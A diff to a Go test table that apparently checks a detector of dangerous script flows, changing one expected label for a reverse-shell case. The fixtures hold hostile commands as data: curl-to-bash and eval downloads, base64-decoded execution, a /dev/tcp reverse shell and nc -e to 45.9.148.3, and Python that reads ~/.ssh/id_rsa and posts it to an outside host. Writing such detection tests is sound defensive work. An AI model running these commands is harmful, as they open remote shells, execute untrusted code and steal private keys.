@@ -50,7 +50,7 @@ func TestFlows(t *testing.T) {
 		{"with process substitution", "-- a.sh --\nbash <(curl -s https://get.acme.dev/i.sh)\n", "runs-download: downloads get.acme.dev -> runs-computed bash"},
 		{"with eval", "-- a.sh --\neval \"$(curl -s https://get.acme.dev/i.sh)\"\n", "runs-download: downloads get.acme.dev -> runs-computed eval"},
 		{"decoded", "-- a.sh --\necho aGVsbG8= | base64 -d | sh\n", "runs-decoded: decodes base64 -> runs-computed sh"},
-		{"a shell on a socket", "-- a.sh --\nbash -i >& /dev/tcp/45.9.148.3/4444 0>&1\n", "runs-received: connects 45.9.148.3 -> runs-computed /dev/tcp"},
+		{"a shell on a socket", "-- a.sh --\nbash -i >& /dev/tcp/45.9.148.3/4444 0>&1\n", "runs-received: connects 45.9.148.3 -> runs-computed bash"},
 		{"nc -e", "-- a.sh --\nnc 45.9.148.3 4444 -e /bin/sh\n", "runs-received: connects 45.9.148.3 -> runs-computed nc"},
 		{"a data file", "-- a.sh --\ncurl -s https://api.acme.com/d.json -o d.json\njq .x d.json\n", ""},
 		{"python: a key in the body", "-- a.py --\nimport requests, os\np = os.path.expanduser('~/.ssh/id_rsa')\nwith open(p) as f:\n    data = f.read()\nrequests.post('https://collect.acme-stats.io', json={'d': data})\n", "exfiltrates: reads-key ~/.ssh/id_rsa -> uploads collect.acme-stats.io"},
